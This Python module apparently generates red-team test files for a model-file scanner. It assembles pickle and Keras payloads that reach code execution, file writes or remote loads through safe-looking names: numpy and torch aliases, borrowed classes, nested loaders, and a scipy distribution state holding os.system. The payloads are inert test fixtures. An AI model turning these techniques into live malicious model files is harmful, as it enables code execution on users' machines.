"""Attacks that get past lists of names: safe-looking names that run, open or load something.

Each stays within names that a scanner may well hold for harmless: a package's alias
of another package, a class imported for a module's own use, a method of an array, a
state that its class runs. Assembled opcode by opcode; every payload is inert.
"""

import io
import json
import struct
import zipfile

COMMAND = "echo ringfort-inert"
TARGET = "/tmp/ringfort-inert"


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def octets(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw


def name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def call(callable_, *arguments):
    return callable_ + b"(" + b"".join(arguments) + b"tR"


def new(class_, *arguments):
    return class_ + b"(" + b"".join(arguments) + b"t\x81"


def several(*items):
    return b"(" + b"".join(items) + b"l"


def mapping(**pairs):
    return b"(" + b"".join(text(key) + value for key, value in pairs.items()) + b"d"


def mapped(function, *columns):
    return call(name("builtins", "list"), call(name("builtins", "map"), function, *columns))


def stream(body):
    return b"\x80\x04" + body + b"."


def aliases():
    for label, module, attribute, what in (
            ("numpy_ma_load", "numpy", "ma.core.np.load", "numpy.load through the alias np of numpy.ma"),
            ("numpy_ma_f2py", "numpy", "ma.core.np.f2py.crackfortran.myeval", "eval in f2py through an alias"),
            ("numpy_ma_openfile", "numpy", "ma.mrecords.openfile", "opens a file by a function of numpy.ma"),
            ("numpy_ma_test", "numpy", "ma.test", "runs a test session with the file's arguments"),
            ("numpy_ma_npz", "numpy", "ma.core.np.lib.npyio.NpzFile", "opens an archive through an alias"),
            ("torch_serialization", "torch", "nn.functional.torch.serialization.load", "torch.load by a round trip"),
            ("torch_environment", "torch", "nn.functional.torch.utils.collect_env.run", "a command by a round trip"),
            ("torch_extension", "torch", "nn.modules.module.torch.utils.cpp_extension.load", "compiles and loads code"),
            ("torch_thread", "torch", "nn.parallel.parallel_apply.threading.Thread", "a thread by a round trip")):
        yield f"redteam_alias_{label}.pkl", stream(call(name(module, attribute), text(COMMAND))), "suspicious", what


def borrowed():
    for module, class_, argument in (
            ("sklearn.datasets._openml", "GzipFile", TARGET),
            ("sklearn.datasets._openml", "Request", "http://example.invalid"),
            ("sklearn.datasets._openml", "TemporaryDirectory", "x"), ("sklearn.datasets._lfw", "Memory", TARGET),
            ("pandas.core.generic", "HDFStore", TARGET), ("pandas._libs.parsers", "TextReader", TARGET),
            ("dateutil.zoneinfo", "tzfile", TARGET), ("xgboost.core", "DMatrix", "http://example.invalid/x?format=csv"),
            ("torch.ao.quantization.fx.graph_module", "GraphModule", "x")):
        yield (f"redteam_borrowed_{class_.lower()}.pkl", stream(call(name(module, class_), text(argument), text("wb"))),
               "suspicious", f"{class_}, which {module} imports or offers, opens what the file names")
    yield ("redteam_booster_file.pkl",
           stream(call(name("xgboost.core", "Booster"), b"N", b"N", text("http://example.invalid/model"))), "suspicious",
           "a booster that reads its model from elsewhere")


def methods():
    array = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"(K\x00t", octets(b"b"))
    bound = call(name("builtins", "getattr"), array, text("tofile"))
    yield ("redteam_method_map.pkl", stream(mapped(name("numpy", "ndarray.tofile"), several(array), several(text(TARGET)))),
           "suspicious", "an array's own method writes a file, called by map")
    yield ("redteam_method_accumulate.pkl",
           stream(call(name("builtins", "list"), call(name("itertools", "accumulate"), several(array, text(TARGET)),
                                                     name("numpy", "ndarray.tofile")))),
           "suspicious", "the same, called by accumulate")
    yield ("redteam_method_setstate.pkl",
           stream(new(name("sklearn.utils", "Bunch")) + mapping(__setstate__=bound) + b"b" + text(TARGET) + b"b"),
           "suspicious", "a bound method as __setstate__, called by the next BUILD")
    yield ("redteam_dill_type.pkl",
           stream(mapped(call(name("dill._dill", "_load_type"), text("CodeType")), several(b"K\x00"))), "suspicious",
           "dill's table of types instead of types.CodeType, called by map")
    yield ("redteam_metaclass.pkl",
           stream(call(name("abc", "ABCMeta"), text("X"), b"(" + name("builtins", "object") + b"t",
                       mapping(__del__=name("builtins", "print")))),
           "suspicious", "a metaclass makes a class with a destructor")


def nested():
    inner = octets(b"\x80\x02cposix\nsystem\n" + text(COMMAND) + b"\x85R.")
    loader = name("torch.storage", "_load_from_bytes")
    kept = call(name("functools", "partial"), loader, inner)
    empty = octets(b"N.")
    yield ("redteam_nested_type.pkl",
           stream(call(name("torch._tensor", "_rebuild_from_type_v2"), loader, name("torch", "Tensor"),
                       b"(" + inner + b"t", mapping())),
           "suspicious", "a tensor subclass is rebuilt by the storage loader")
    yield ("redteam_nested_third.pkl", stream(mapped(loader, several(empty, empty, inner))), "suspicious",
           "map over three nested streams, the last of which runs")
    yield ("redteam_nested_iter.pkl",
           stream(call(name("builtins", "list"), call(name("builtins", "iter"), kept, b"N"))), "suspicious",
           "iter calls a partial of the loader until it returns None")
    yield ("redteam_nested_default.pkl",
           stream(call(name("operator", "getitem"), call(name("collections", "defaultdict"), kept), b"K\x01")),
           "suspicious", "a default factory that loads a nested stream")
    yield ("redteam_nested_setstate.pkl",
           stream(call(name("types", "SimpleNamespace")) + mapping(__setstate__=kept) + b"b" + text("x") + b"b"),
           "suspicious", "a partial of the loader as __setstate__")


def distributions():
    made = new(name("scipy.stats._continuous_distns", "norm_gen"))
    plain = f"import os\nos.system('{COMMAND}')\n"
    hidden = f"\ndef _parse_args(self, a=__import__('os').system('{COMMAND}')):\n    return (a, )\n"
    for label, template in (("plain", plain), ("default", hidden)):
        yield (f"redteam_distribution_{label}.pkl", stream(made + mapping(_parse_arg_template=text(template)) + b"b"),
               "malicious", "scipy runs a text of the state when a distribution is restored")
    rebuilt = call(name("copyreg", "_reconstructor"), name("scipy.stats._distn_infrastructure", "rv_discrete"),
                   name("builtins", "object"), b"N")
    yield ("redteam_distribution_old.pkl", stream(rebuilt + mapping(_parse_arg_template=text(plain)) + b"b"), "malicious",
           "the same by the old way of making an object")
    pairs = several(b"(" + text("_parse_arg_template") + text(plain) + b"t")
    yield ("redteam_distribution_pairs.pkl", stream(made + pairs + b"b"), "malicious", "the same, the state as pairs")
    many = {f"k{i}": b"N" for i in range(80)} | {"_parse_arg_template": text(plain)}
    yield ("redteam_distribution_late.pkl", stream(made + mapping(**many) + b"b"), "suspicious",
           "the same behind eighty other keys")


def layers():
    layer = {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": TARGET}}
    config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member, content in (("metadata.json", {"keras_version": "3.0.0"}), ("config.json", config)):
            archive.writestr(zipfile.ZipInfo(member, (2026, 1, 1, 0, 0, 0)), json.dumps(content))
    yield "redteam_outside_model.keras", out.getvalue(), "suspicious", "a layer that loads a SavedModel from a path"


def cases():
    yield from aliases()
    yield from borrowed()
    yield from methods()
    yield from nested()
    yield from distributions()
    yield from layers()
